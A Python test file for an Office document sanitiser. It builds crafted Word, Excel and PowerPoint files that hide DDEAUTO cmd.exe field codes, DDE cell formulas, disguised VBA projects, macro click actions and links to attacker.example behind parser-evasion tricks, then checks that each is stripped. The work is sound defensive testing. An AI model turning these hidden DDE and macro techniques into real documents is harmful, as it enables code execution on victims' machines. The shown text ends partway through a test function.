"""OOXML inputs found by an adversarial review: field codes Word and LibreOffice read
but the field walk did not see, DDE in cell formulas, macro assignments in other
drawing namespaces. Checked in the rebuilt parts themselves and with msodde."""

from __future__ import annotations

import io
import re
import struct
import zipfile
from pathlib import Path

import pytest

from tests.plugins.test_office import (
    NS,
    OLE_OBJECT,
    VBA_BIN,
    _save,
    _write,
    add_rels,
    assert_consistent,
    build_docx,
    build_xlsx,
    content_types,
    dde_found,
    disarm,
    embedded_ole_objects,
    insert,
    member,
    names,
    rezip,
    switches,
    vba_found,
)

MC = (
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
)
DDE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo gicap test" '
BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
SEP = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
INSTR = f'<w:instrText xml:space="preserve">{DDE}</w:instrText>'
MATH = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'


def _docx_with(paragraph: str) -> bytes:
    import docx
    from docx.oxml import parse_xml

    doc = docx.Document()
    doc.add_paragraph("hello")
    body = doc.element.body
    body.insert(len(body) - 1, parse_xml(f"<w:p {NS} {MC}>{paragraph}</w:p>"))
    return _save(doc)


CASES = {
    "instruction-in-mc-choice": BEGIN
    + f'<w:r><mc:AlternateContent><mc:Choice Requires="w14">{INSTR}</mc:Choice>'
    "</mc:AlternateContent></w:r>" + SEP + END,
    "instruction-in-mc-fallback": BEGIN
    + '<w:r><mc:AlternateContent><mc:Choice Requires="w99">x</mc:Choice>'
    f"<mc:Fallback>{INSTR}</mc:Fallback></mc:AlternateContent></w:r>" + SEP + END,
    "begin-in-mc-choice": '<w:r><mc:AlternateContent><mc:Choice Requires="w14">'
    '<w:fldChar w:fldCharType="begin"/></mc:Choice></mc:AlternateContent></w:r>'
    f"<w:r>{INSTR}</w:r>" + SEP + END,
    "code-written-as-text": BEGIN + f'<w:r><w:t xml:space="preserve">{DDE}</w:t></w:r>' + SEP + END,
    "zero-width-space-before-keyword": BEGIN
    + f'<w:r><w:instrText xml:space="preserve">\u200b{DDE.strip()}</w:instrText></w:r>'
    + SEP
    + END,
    "field-in-math-runs": f'<m:oMathPara {MATH}><m:oMath><m:r><w:fldChar w:fldCharType="begin"/>'
    f'</m:r><m:r>{INSTR}</m:r><m:r><w:fldChar w:fldCharType="separate"/></m:r>'
    '<m:r><m:t>x</m:t></m:r><m:r><w:fldChar w:fldCharType="end"/></m:r></m:oMath></m:oMathPara>',
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_hidden_field_codes_are_neutralised(tmp_path: Path, name: str) -> None:
    path = _write(tmp_path, "in.docx", _docx_with(CASES[name]))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    document = zipfile.ZipFile(dest).read("word/document.xml").decode()
    assert "DDEAUTO" not in document
    assert dde_found(dest) == ""


def _xlsx_formula(formula: str) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active["A1"] = "value"
    wb.active["B1"] = 0
    buf = io.BytesIO()
    wb.save(buf)
    cell = f'<c r="B1"><f>{formula}</f><v>0</v></c>'.encode()
    return rezip(
        buf.getvalue(),
        {"xl/worksheets/sheet1.xml": lambda x: re.sub(rb'<c r="B1"[^>]*>.*?</c>', cell, x)},
    )


@pytest.mark.parametrize(
    "formula",
    ['DDE("cmd","/c echo gicap","A1")', "cmd|'/c echo gicap'!A1"],
    ids=["dde-function", "dde-remote-reference"],
)
def test_dde_in_cell_formulas_is_removed(tmp_path: Path, formula: str) -> None:
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    assert b"<f>" in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert b"<f>" not in zipfile.ZipFile(dest).read("xl/worksheets/sheet1.xml")
    assert any(a.switch == "dynamic_data_exchange" for a in result.actions)


def test_external_link_beside_a_cell_link_is_external(tmp_path: Path) -> None:
    formula = 'HYPERLINK("#Sheet!A1","x")&amp;HYPERLINK("http://example.com/evil","y")'
    path = _write(tmp_path, "in.xlsx", _xlsx_formula(formula))
    policy = switches("sanitise", internal_hyperlinks="allow")
    result, dest = disarm(path, tmp_path, policy)
    assert result.outcome == "rebuilt", result
    assert b"example.com" not in zipfile.ZipFile(dest).read("xl/worksheets/sheet1.xml")


def test_deleted_paragraph_marks_join_in_order(tmp_path: Path) -> None:
    """Tracked deletions of paragraph marks are accepted: the paragraphs become one,
    their text in order (joined from the last; 2,000 such marks took 7 s before)."""
    import docx

    mark = (
        '<w:pPr><w:rPr><w:del w:id="{n}" w:author="a" w:date="2020-01-01T00:00:00Z"/>'
        "</w:rPr></w:pPr>"
    )
    paragraphs = (
        "".join(
            f'<w:p {NS}>{mark.format(n=n)}<w:r><w:t xml:space="preserve">p{n} </w:t></w:r></w:p>'
            for n in range(2000)
        )
        + f"<w:p {NS}><w:r><w:t>last</w:t></w:r></w:p>"
    )
    doc = docx.Document()
    doc.add_paragraph("first")
    from docx.oxml import parse_xml

    body = doc.element.body
    for p in parse_xml(f"<w:body {NS}>{paragraphs}</w:body>"):
        body.insert(len(body) - 1, p)
    path = _write(tmp_path, "in.docx", _save(doc))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    texts = [p.text for p in docx.Document(str(dest)).paragraphs]
    assert texts == ["first", "".join(f"p{n} " for n in range(2000)) + "last"]


def test_thousands_of_unclosed_fields_are_refused(tmp_path: Path) -> None:
    begins = BEGIN * 5000
    path = _write(tmp_path, "in.docx", _docx_with(begins + f"<w:r>{INSTR}</w:r>"))
    result, _ = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "unprocessable", result
    assert "nested" in result.reason


def test_macro_action_on_an_external_link_goes_with_macros(tmp_path: Path) -> None:
    """A click action running a macro, on a link whose target is external: removed
    under macros=sanitise even when external links are allowed."""
    import pptx
    from pptx.oxml import parse_xml
    from pptx.util import Inches

    from tests.plugins.test_office import R

    prs = pptx.Presentation()
    slide = prs.slides.add_slide(prs.slide_layouts[5])
    box = slide.shapes.add_textbox(Inches(1), Inches(1), Inches(3), Inches(1))
    box.text_frame.text = "run"
    rid = slide.part.relate_to("http://example.com/x", R + "hyperlink", is_external=True)
    box._element.nvSpPr.cNvPr.append(
        parse_xml(
            '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            f'xmlns:r="{R[:-1]}" r:id="{rid}" action="ppaction://macro?name=Module1.AutoOpen"/>'
        )
    )
    path = _write(tmp_path, "in.pptx", _save(prs))
    result, dest = disarm(path, tmp_path, switches("sanitise", external_hyperlinks="allow"))
    assert result.outcome == "rebuilt", result
    assert b"ppaction://macro" not in zipfile.ZipFile(dest).read("ppt/slides/slide1.xml")


def test_web_publishing_destination_is_removed(tmp_path: Path) -> None:
    """Excel writes the workbook to destinationFile on every save (autoRepublish)."""

    def publish(workbook: bytes) -> bytes:
        return workbook.replace(
            b"</workbook>",
            b'<webPublishObjects count="1"><webPublishObject id="1" divId="d" '
            b'destinationFile="\\\\attacker.example\\share\\p.htm" autoRepublish="1"/>'
            b"</webPublishObjects></workbook>",
        )

    path = _write(tmp_path, "in.xlsx", rezip(_xlsx_formula("A1"), {"xl/workbook.xml": publish}))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    workbook = zipfile.ZipFile(dest).read("xl/workbook.xml")
    assert b"attacker.example" not in workbook and b"webPublishObjects" not in workbook
    import openpyxl

    openpyxl.load_workbook(dest)  # still a workbook a reader opens


# --------------------------------------------------- macro code and DDE off the usual path

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_DDE_LINK = (
    f'<externalLink xmlns="{_S}"><ddeLink ddeService="cmd" ddeTopic="/c echo gicap">'
    '<ddeItems><ddeItem name="dde topic" advise="1"/></ddeItems></ddeLink></externalLink>'
).encode()


@pytest.mark.parametrize(
    "rel_type, target",
    [
        (_R + "customXml", "stuff.bin"),
        (_R + "printerSettings", "printerSettings/settings1.bin"),
        ("http://example.com/unknown", "data/blob.bin"),
        (_R + "oleObject", "embeddings/oleObject1.bin"),
    ],
)
def test_a_vba_project_under_another_name_or_relationship_goes(
    tmp_path: Path, rel_type: str, target: str
) -> None:
    """A VBA project reached by a relationship of another type, under another name and
    content type, is macro code all the same (olevba finds it in any part): removed
    when macros are not allowed, even when the other switches allow everything."""
    data = rezip(
        build_docx(False),
        {
            f"word/{target}": VBA_BIN,
            "word/_rels/document.xml.rels": add_rels(("rIdX", rel_type, target, False)),
        },
    )
    path = _write(tmp_path, "hidden-vba.docx", data)
    assert vba_found(path)
    result, dest = disarm(path, tmp_path, switches("allow", macros="sanitise"))
    assert result.outcome == "rebuilt", result
    assert [a.switch for a in result.actions if a.action == "removed"] == ["macros"]
    assert not vba_found(dest) and f"word/{target}" not in names(dest)
    assert_consistent(dest)
    dest.unlink()
    result, _ = disarm(path, tmp_path, switches("allow", macros="disallow"))
    assert result.outcome == "blocked"
    result, _ = disarm(path, tmp_path, switches("allow"))
    assert result.outcome == "unmodified"  # macros allowed: nothing to do


def _xlsx_with_stray_dde(changes: dict[str, bytes]) -> bytes:
    return rezip(build_xlsx(False), changes)


def test_a_dde_link_a_worksheet_refers_to_goes(tmp_path: Path) -> None:
    """An external link part holding a DDE link, referred to by a worksheet rather
    than the workbook, is judged as the workbook's are."""
    sheet_rels = "xl/worksheets/_rels/sheet1.xml.rels"
    data = _xlsx_with_stray_dde(
        {
            "xl/externalLinks/externalLink9.xml": _DDE_LINK,
            sheet_rels: add_rels(
                ("rIdX", _R + "externalLink", "../externalLinks/externalLink9.xml", False)
            ),
        }
    )
    path = _write(tmp_path, "stray-dde.xlsx", data)
    assert dde_found(path)
    result, dest = disarm(path, tmp_path, switches("allow", dynamic_data_exchange="sanitise"))
    assert result.outcome == "rebuilt", result
    assert [(a.switch, a.detail) for a in result.actions if a.action == "removed"] == [
        ("dynamic_data_exchange", "DDE link")
    ]
    assert dde_found(dest) == "" and "xl/externalLinks/externalLink9.xml" not in names(dest)
    assert_consistent(dest)
    dest.unlink()
    result, _ = disarm(path, tmp_path, switches("allow", dynamic_data_exchange="disallow"))
    assert result.outcome == "blocked"


_CT_XLSX_PRINTER = "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"


def _xlsx_with_part(name: str, data: bytes, rel_type: str, content_type: str) -> bytes:
    """The clean workbook with one more part, referred to by the first worksheet."""
    return rezip(
        build_xlsx(False),
        {
            f"xl/{name}": data,
            "xl/worksheets/_rels/sheet1.xml.rels": add_rels(
                ("rIdX", rel_type, f"../{name}", False)
            ),
            "[Content_Types].xml": content_types({f"/xl/{name}": content_type}),
        },
    )


def _xlsb_dde_record() -> bytes:
    """An XLSB external link record (BrtBeginSupBook, type 360) of a DDE link."""

    def text(value: str) -> bytes:
        return struct.pack("<I", len(value)) + value.encode("utf-16-le")

    body = struct.pack("<H", 1) + text("cmd") + text("/c calc")
    return bytes([0xE8, 0x02, len(body)]) + body


_DDE_IN_PARTS = {
    # a ddeLink element in another part, in any letter case (msodde lowers names:
    # the last letter may be the Kelvin sign, U+212A, which lowers to "k")
    "custom-xml": (
        "custom/item1.xml",
        b'<root xmlns="urn:example"><DDELINK ddeService="cmd" ddeTopic="/c calc"/>'
        b"<keep>data</keep></root>",
        _R + "customXml",
        "application/xml",
    ),
    "kelvin-sign": (
        "custom/item1.xml",
        '<root xmlns="urn:example"><ddeLin\u212a ddeService="cmd" ddeTopic="/c calc"/>'
        "<keep>data</keep></root>".encode(),
        _R + "customXml",
        "application/xml",
    ),
    # binary parts msodde reads as XML, or as XLSB records
    "xml-in-a-binary-part": (
        "printerSettings/printerSettings1.bin",
        b'<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>',
        _R + "printerSettings",
        _CT_XLSX_PRINTER,
    ),
    "xlsb-record": (
        "printerSettings/printerSettings1.bin",
        _xlsb_dde_record(),
        _R + "printerSettings",
        _CT_XLSX_PRINTER,
    ),
}


@pytest.mark.parametrize("case", sorted(_DDE_IN_PARTS))
def test_dde_links_anywhere_in_a_workbook_go(tmp_path: Path, case: str) -> None:
    """msodde reads every part of a workbook, as XML and then as XLSB records: a DDE
    link it finds in any of them is reported and removed (Excel does not read them
    from there, but each is a DDE command all the same)."""
    path = _write(tmp_path, f"{case}.xlsx", _xlsx_with_part(*_DDE_IN_PARTS[case]))
    assert dde_found(path)
    result, dest = disarm(path, tmp_path, switches("allow", dynamic_data_exchange="sanitise"))
    assert result.outcome == "rebuilt", result
    assert "dynamic_data_exchange" in [a.switch for a in result.actions if a.action == "removed"]
    assert dde_found(dest) == ""
    if case in ("custom-xml", "kelvin-sign"):
        assert b"<keep>data</keep>" in member(dest, "xl/custom/item1.xml")
    assert_consistent(dest)
    dest.unlink()
    result, _ = disarm(path, tmp_path, switches("allow", dynamic_data_exchange="disallow"))
    assert result.outcome == "blocked"
    result, _ = disarm(path, tmp_path, switches("allow"))
    assert result.outcome == "unmodified"


@pytest.mark.parametrize("where", ["rels", "content-types"])
def test_elements_that_are_no_relationship_or_content_type_are_dropped(
    tmp_path: Path, where: str
) -> None:
    """Nothing but entries belongs in relationship and content types parts; what
    else is there is dropped (msodde finds a ddeLink element there too)."""
    stray = '<ddeLink xmlns="urn:x" ddeService="cmd" ddeTopic="/c calc"/>'
    if where == "rels":
        change = {"xl/_rels/workbook.xml.rels": insert("</Relationships>", stray)}
    else:
        change = {"[Content_Types].xml": insert("</Types>", stray)}
    path = _write(tmp_path, f"stray-{where}.xlsx", rezip(build_xlsx(False), change))
    assert dde_found(path)
    result, dest = disarm(path, tmp_path, switches("allow"))
    assert result.outcome == "rebuilt", result
    assert [(a.switch, a.detail) for a in result.actions if a.action == "removed"] == [
        ("structure", "element that is no relationship or content type")
    ]
    assert dde_found(dest) == "" and b"ddeLink" not in b"".join(
        member(dest, n) for n in names(dest) if n.endswith((".rels", ".xml"))
    )
    assert_consistent(dest)


def test_dde_link_elements_outside_workbooks_are_not_dde(tmp_path: Path) -> None:
    """Word and PowerPoint read DDE from fields; a ddeLink element in a document's
    custom XML part is data (msodde does not report it either)."""
    item = b'<root xmlns="urn:example"><ddeLink ddeService="cmd"/><keep>data</keep></root>'
    path = _write(
        tmp_path, "custom-dde.docx", rezip(build_docx(False), {"customXml/item1.xml": item})
    )
    assert dde_found(path) == ""
    result, _ = disarm(path, tmp_path, switches("allow", dynamic_data_exchange="disallow"))
    assert result.outcome == "unmodified", result
    assert "dynamic_data_exchange" not in [a.switch for a in result.actions]


def test_ole_parts_are_read_one_stream_at_a_time_within_a_budget() -> None:
    """A part that is an OLE file is searched for a VBA project stream by stream,
    against one budget for the whole package (a sector many streams claim is read for
    each: 250 streams of the same 4 MB took a gigabyte when they were all kept)."""
    from gicap_office.legacy import UNREADABLE_OLE, VBA_PROJECT, vba_label

    from tests.plugins.test_office import make_ole

    assert vba_label(VBA_BIN, [1 << 30]) == VBA_PROJECT
    code = make_ole({"data": b"x" * 5000 + b"Attribut\x00e VB_Name" + b"x" * 5000})
    assert vba_label(code, [1 << 30]) == VBA_PROJECT  # (compressed VBA code in any stream)
    clean = make_ole({"data": b"x" * 10_000})
    assert vba_label(clean, [1 << 30]) is None
    budget = [15_000]
    assert vba_label(clean, budget) is None and budget[0] == 5_000
    assert vba_label(clean, budget) == UNREADABLE_OLE  # (over the budget: not shown clean)
    assert vba_label(VBA_BIN[:700], [1 << 30]) == UNREADABLE_OLE


# A fourth review: markup a reader may skip changing which instruction a field has,
# target modes readers trim, Office add-ins.

_CHOICE = (
    '<mc:AlternateContent><mc:Choice Requires="zz">{}</mc:Choice>'
    "<mc:Fallback/></mc:AlternateContent>"
)
_EXTENSION = '<zz:wrap xmlns:zz="urn:gicap:extension">{}</zz:wrap>'
_FAKE_SEPARATE = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
_HARMLESS_FIRST = '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
PARTIAL_MARKUP = {
    "separate-in-mc-choice": _CHOICE.format(_FAKE_SEPARATE),
    "separate-in-an-extension": _EXTENSION.format(_FAKE_SEPARATE),
    "keyword-first-in-mc-choice": _CHOICE.format(_HARMLESS_FIRST),
    "keyword-first-in-an-extension": _EXTENSION.format(_HARMLESS_FIRST),
}


@pytest.mark.parametrize("name", sorted(PARTIAL_MARKUP))
def test_field_parts_a_reader_may_skip_do_not_hide_the_instruction(
    tmp_path: Path, name: str
) -> None:
    """A separator, or a harmless keyword, in markup Word and LibreOffice skip (an
    mc:Choice they do not take, an ignorable extension): the walk read the field as
    ending before DDEAUTO, or as PAGE. The markup goes and the field is judged
    without it."""
    paragraph = BEGIN + PARTIAL_MARKUP[name] + f"<w:r>{INSTR}</w:r>" + SEP + END
    path = _write(tmp_path, "in.docx", _docx_with(paragraph))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    document = zipfile.ZipFile(dest).read("word/document.xml").decode()
    assert "DDEAUTO" not in document and "result" in document
    assert dde_found(dest) == ""


def test_whole_fields_in_markup_a_reader_may_skip_are_kept(tmp_path: Path) -> None:
    """A whole field in each branch (a page number in a text box, say) changes no
    other field: it stays."""
    whole = BEGIN + _HARMLESS_FIRST + SEP + END
    paragraph = (
        '<mc:AlternateContent><mc:Choice Requires="w14">' + whole + "</mc:Choice>"
        "<mc:Fallback>" + whole + "</mc:Fallback></mc:AlternateContent>"
    )
    path = _write(tmp_path, "in.docx", _docx_with(paragraph))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert not any(a.switch == "dynamic_data_exchange" for a in result.actions), result
    document = zipfile.ZipFile(dest if dest.exists() else path).read("word/document.xml")
    assert document.count(b" PAGE ") == 2


@pytest.mark.parametrize("mode", [" External", "External ", "&#9;External", "&#10;External&#10;"])
def test_an_external_target_mode_with_white_space_is_external(tmp_path: Path, mode: str) -> None:
    """LibreOffice trims the target mode: the picture was fetched from the rebuilt file."""
    rel = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/image" Target="http://x.example/p.png" TargetMode="{mode}"/>'
    )
    data = _docx_with("<w:r><w:t>x</w:t></w:r>")
    data = rezip(data, {"word/_rels/document.xml.rels": insert("</Relationships>", rel)})
    path = _write(tmp_path, "in.docx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert b"x.example" not in zipfile.ZipFile(dest).read("word/_rels/document.xml.rels")


def test_an_unknown_target_mode_is_refused(tmp_path: Path) -> None:
    rel = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/image" Target="media/x.png" TargetMode="Externally"/>'
    )
    data = _docx_with("<w:r><w:t>x</w:t></w:r>")
    data = rezip(data, {"word/_rels/document.xml.rels": insert("</Relationships>", rel)})
    result, _ = disarm(_write(tmp_path, "in.docx", data), tmp_path, switches("sanitise"))
    assert result.outcome == "unprocessable" and "target mode" in (result.reason or "")


_OFFICE_CT = "application/vnd.ms-office."


def test_office_add_ins_are_removed(tmp_path: Path) -> None:
    """A task pane names an add-in Office offers to load (web content from a store or
    a catalog the document names)."""
    ms = "http://schemas.microsoft.com/office/2011/relationships"
    panes = (
        '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/'
        'taskpanes/2010/11" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships"><wetp:taskpane dockstate="right" visibility="1" width="350" row="1">'
        '<wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>'
    )
    extension = (
        '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/'
        'webextension/2010/11" id="{00000000-0000-0000-0000-000000000001}">'
        '<we:reference id="wa1" version="1.0.0.0" store="\\\\x.example\\addins" '
        'storeType="Filesystem"/></we:webextension>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rId1" Type="{ms}/webextension" '
        'Target="webextension1.xml"/></Relationships>'
    )
    data = rezip(
        _docx_with("<w:r><w:t>x</w:t></w:r>"),
        {
            "_rels/.rels": insert(
                "</Relationships>",
                f'<Relationship Id="rIdW" Type="{ms}/webextensiontaskpanes" '
                'Target="word/webextensions/taskpanes.xml"/>',
            ),
            "[Content_Types].xml": content_types(
                {
                    "/word/webextensions/taskpanes.xml": f"{_OFFICE_CT}webextensiontaskpanes+xml",
                    "/word/webextensions/webextension1.xml": f"{_OFFICE_CT}webextension+xml",
                }
            ),
            "word/webextensions/taskpanes.xml": panes.encode(),
            "word/webextensions/_rels/taskpanes.xml.rels": rels.encode(),
            "word/webextensions/webextension1.xml": extension.encode(),
        },
    )
    path = _write(tmp_path, "in.docx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert not [n for n in names(dest) if "webextension" in n]
    assert b"webextension" not in zipfile.ZipFile(dest).read("_rels/.rels")
    result, dest = disarm(path, tmp_path, switches("sanitise", external_hyperlinks="allow"))
    assert [n for n in names(dest if dest.exists() else path) if "webextension" in n]


@pytest.mark.parametrize(
    "paragraph",
    [
        # text only, in an mc:Choice Word skips: "X" made the keyword XDDEAUTO
        BEGIN + _CHOICE.format("<w:r><w:t>X</w:t></w:r>") + f"<w:r>{INSTR}</w:r>" + SEP + END,
        # the same before a whole field computing the keyword (in the Fallback)
        BEGIN + '<mc:AlternateContent><mc:Choice Requires="w99"><w:r><w:t>X</w:t></w:r>'
        "</mc:Choice><mc:Fallback>"
        + BEGIN
        + '<w:r><w:instrText xml:space="preserve"> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>'
        + SEP
        + END
        + "</mc:Fallback></mc:AlternateContent>"
        + '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\cmd.exe </w:instrText>'
        "</w:r>" + SEP + END,
    ],
    ids=["text-in-choice", "text-before-a-computing-field"],
)
def test_a_field_whose_code_runs_into_other_markup_is_ambiguous(
    tmp_path: Path, paragraph: str
) -> None:
    """Runs of a field's code in markup a reader may skip: which text is the
    instruction depends on the reader."""
    path = _write(tmp_path, "in.docx", _docx_with(paragraph))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    document = zipfile.ZipFile(dest).read("word/document.xml").decode()
    assert "DDEAUTO" not in document and "QUOTE" not in document and "cmd.exe" not in document


def test_fields_in_an_ordinary_text_box_are_kept(tmp_path: Path) -> None:
    """A text box as Word writes it (a WordprocessingShape choice and a VML fallback,
    a whole DATE field in each): it was removed as field code in markup
    compatibility content."""
    field = BEGIN + '<w:r><w:instrText xml:space="preserve"> DATE </w:instrText></w:r>' + SEP + END
    inner = f"<w:p>{field}</w:p>"
    box = (
        '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="1828800" cy="914400"/><wp:docPr id="2" name="TB"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
        '<wps:wsp xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
        f'<wps:cNvSpPr txBox="1"/><wps:txbx><w:txbxContent>{inner}</w:txbxContent></wps:txbx>'
        "<wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing>"
        '</mc:Choice><mc:Fallback><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" '
        f'style="width:144pt;height:72pt"><v:textbox><w:txbxContent>{inner}</w:txbxContent>'
        "</v:textbox></v:rect></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )
    path = _write(tmp_path, "in.docx", _docx_with(box))
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert not any(a.switch == "dynamic_data_exchange" for a in result.actions), result
    document = zipfile.ZipFile(dest if dest.exists() else path).read("word/document.xml")
    assert document.count(b" DATE ") == 2 and document.count(b"txbxContent") == 4


# ---------------------------------------------------- a review of the OOXML engine (2)

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_OBJECT = (
    '<w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76pt;height:49pt"/>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" ObjectID="_1" '
    'r:id="rIdX1"/></w:object></w:r>'
)


@pytest.mark.parametrize(
    ("rel_type", "placed"),
    [
        (_REL + "printerSettings", True),
        (_REL + "OLEOBJECT", True),
        ("http://example.com/x", True),
        (_REL + "customXml", False),  # (no element places it: an OLE file all the same)
    ],
    ids=["printer-settings", "upper-case", "unknown", "not-placed"],
)
def test_an_ole_object_under_any_relationship_type_goes(
    tmp_path: Path, rel_type: str, placed: bool
) -> None:
    """A Package object (an embedded file, found by oleobj) reached by a printer
    settings, an upper-case or an unknown relationship type, as word/media/blob.bin,
    was delivered, its o:OLEObject too, even under embedded_files = disallow."""
    data = rezip(
        _docx_with(_OBJECT if placed else "<w:r><w:t>x</w:t></w:r>"),
        {
            "word/media/blob.bin": OLE_OBJECT,
            "word/_rels/document.xml.rels": add_rels(("rIdX1", rel_type, "media/blob.bin", False)),
        },
    )
    path = _write(tmp_path, "object.docx", data)
    assert embedded_ole_objects(path) == 1
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert embedded_ole_objects(dest) == 0 and "word/media/blob.bin" not in names(dest)
    assert b"OLEObject" not in member(dest, "word/document.xml")
    assert_consistent(dest)
    result, _ = disarm(path, tmp_path, switches("sanitise", embedded_files="disallow"))
    assert result.outcome == "blocked", result


_EXTERNAL_BOOK = (
    f'<externalLink xmlns="{_S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><externalBook r:id="rId1"/></externalLink>'
).encode()
_EXTERNAL_BOOK_RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/externalLinkPath" Target="file:///\\\\attacker.example\\share\\b.xlsx" '
    b'TargetMode="External"/></Relationships>'
)


def test_an_external_link_part_a_document_refers_to_is_judged(tmp_path: Path) -> None:
    """The external relationships of a part whose root is <externalLink> were left to
    the workbook's external links: reached from a Word document (or a worksheet),
    its UNC path stayed, even under external_hyperlinks = disallow."""
    data = rezip(
        build_docx(False),
        {
            "word/foo.xml": _EXTERNAL_BOOK,
            "word/_rels/foo.xml.rels": _EXTERNAL_BOOK_RELS,
            "word/_rels/document.xml.rels": add_rels(
                ("rIdX", _REL + "externalLink", "foo.xml", False)
            ),
        },
    )
    _assert_link_goes(tmp_path, _write(tmp_path, "link.docx", data), "external_hyperlinks")


def _rels_text(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.endswith(".rels"))


def _assert_link_goes(tmp_path: Path, path: Path, switch: str) -> None:
    """The attacker's host, in the relationships of ``path``, is gone from the rebuilt
    file; the file is blocked when ``switch`` is disallowed."""
    assert "attacker.example" in _rels_text(path)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert "attacker.example" not in _rels_text(dest)
    result, _ = disarm(path, tmp_path, switches("sanitise", **{switch: "disallow"}))
    assert result.outcome == "blocked", result


@pytest.mark.parametrize(
    ("target", "decoy"),
    [
        ("\\\\attacker.example\\share\\t.dotm", "attacker.example/share/t.dotm"),
        ("//attacker.example/share/t.dotm", "attacker.example/share/t.dotm"),
        ("http://attacker.example/t.dotm", "word/http:/attacker.example/t.dotm"),
    ],
    ids=["unc", "network-path", "url"],
)
def test_a_decoy_part_does_not_make_a_remote_template_internal(
    tmp_path: Path, target: str, decoy: str
) -> None:
    """A remote template with no TargetMode was external, unless a part sat where the
    target resolved as a path: then it was kept, w:attachedTemplate with it."""
    settings_rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdT" Type="'
        + (_REL + "attachedTemplate").encode()
        + b'" Target="'
        + target.encode()
        + b'"/></Relationships>'
    )

    def template(xml: bytes) -> bytes:
        return re.sub(
            rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', xml, count=1
        )

    data = rezip(
        build_docx(False),
        {"word/_rels/settings.xml.rels": settings_rels, "word/settings.xml": template, decoy: b"x"},
    )
    assert b"attachedTemplate" in zipfile.ZipFile(io.BytesIO(data)).read("word/settings.xml")
    path = _write(tmp_path, "template.docx", data)
    result, dest = disarm(path, tmp_path, switches("sanitise"))
    assert result.outcome == "rebuilt", result
    assert any("remote template" in a.detail for a in result.actions), result.actions
    assert b"attachedTemplate" not in member(dest, "word/settings.xml")
    assert "attacker.example" not in _rels_text(dest)


def test_a_mail_merge_source_without_its_element_goes(tmp_path: Path) -> None:
